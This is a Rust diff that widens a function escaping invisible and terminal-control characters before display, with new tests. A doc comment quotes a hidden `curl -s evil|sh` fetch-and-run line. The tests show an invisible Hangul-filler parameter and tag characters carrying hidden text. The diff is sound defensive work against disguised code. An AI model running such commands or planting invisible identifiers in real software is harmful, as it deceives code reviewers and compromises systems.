@@ -3,7 +3,7 @@
 //! override; printed raw, `+curl -s evil|sh\r\x1b[2K+# tidy` reads as `+# tidy`. Each such
 //! character is shown as something a person can see instead, the way `cat -v`, `less` and
 //! `git diff` do: C0 controls and DEL in caret notation (`^M`, `^[`, `^?`), C1 controls and the
-//! invisible format characters that reorder or hide text as `<U+202E>`.
+//! characters that reorder text, or are drawn as nothing, as `<U+202E>`.
 //!
 //! JSON output needs none of this: serde_json escapes control characters itself.
 
@@ -14,14 +14,27 @@ fn is_hidden(c: char) -> bool {
     c.is_control()
         || matches!(
             c,
-            // Arabic letter mark; zero-width space, joiners and the left/right marks.
-            '\u{061C}' | '\u{200B}'..='\u{200F}'
+            // Soft hyphen; combining grapheme joiner; Arabic letter mark.
+            '\u{00AD}' | '\u{034F}' | '\u{061C}'
+            // Hangul fillers: drawn as nothing, yet letters to a compiler (an identifier that
+            // looks like blank space, as in `const {timeout,\u{3164}} = req.query`).
+            | '\u{115F}' | '\u{1160}' | '\u{3164}' | '\u{FFA0}'
+            // Khmer inherent vowels; Mongolian free variation selectors and vowel separator.
+            | '\u{17B4}' | '\u{17B5}' | '\u{180B}'..='\u{180F}'
+            // Zero-width space, joiners and the left/right marks.
+            | '\u{200B}'..='\u{200F}'
             // Line and paragraph separators; the embeddings and overrides of "Trojan source".
             | '\u{2028}'..='\u{202E}'
-            // Word joiner, invisible operators and the bidirectional isolates.
-            | '\u{2060}'..='\u{2069}'
-            // Byte order mark / zero-width no-break space.
-            | '\u{FEFF}'
+            // Word joiner, invisible operators, the bidirectional isolates and the deprecated
+            // format characters after them.
+            | '\u{2060}'..='\u{206F}'
+            // Variation selectors (also the supplement's), which change how the character
+            // before them is drawn, or hide data after it.
+            | '\u{FE00}'..='\u{FE0F}' | '\u{E0100}'..='\u{E01EF}'
+            // Byte order mark / zero-width no-break space; interlinear annotation marks.
+            | '\u{FEFF}' | '\u{FFF9}'..='\u{FFFB}'
+            // Tag characters: invisible, able to carry a whole hidden ASCII text.
+            | '\u{E0000}'..='\u{E007F}'
         )
 }
 
@@ -99,6 +112,34 @@ mod tests {
             shown.contains("<U+202E>") && shown.contains("<U+2066>") && shown.contains("<U+2069>")
         );
         assert_eq!(line("a\u{200B}b\u{FEFF}"), "a<U+200B>b<U+FEFF>");
+    }
+
+    #[test]
+    fn characters_drawn_as_nothing_are_named() {
+        // A Hangul filler is a letter to JavaScript: an extra parameter that looks like space.
+        assert_eq!(
+            text("const {timeout,\u{3164}} = req.query;\n"),
+            "const {timeout,<U+3164>} = req.query;\n"
+        );
+        // Tag characters spell hidden ASCII ("hi") after a visible one.
+        assert_eq!(line("x\u{E0068}\u{E0069}"), "x<U+E0068><U+E0069>");
+        for c in [
+            '\u{00AD}',
+            '\u{034F}',
+            '\u{115F}',
+            '\u{1160}',
+            '\u{17B4}',
+            '\u{180E}',
+            '\u{206A}',
+            '\u{FE0F}',
+            '\u{FFA0}',
+            '\u{FFF9}',
+            '\u{E0001}',
+            '\u{E0100}',
+        ] {
+            let shown = line(&format!("a{c}b")).into_owned();
+            assert_eq!(shown, format!("a<U+{:04X}>b", c as u32), "{c:?}");
+        }
     }
 
     #[test]
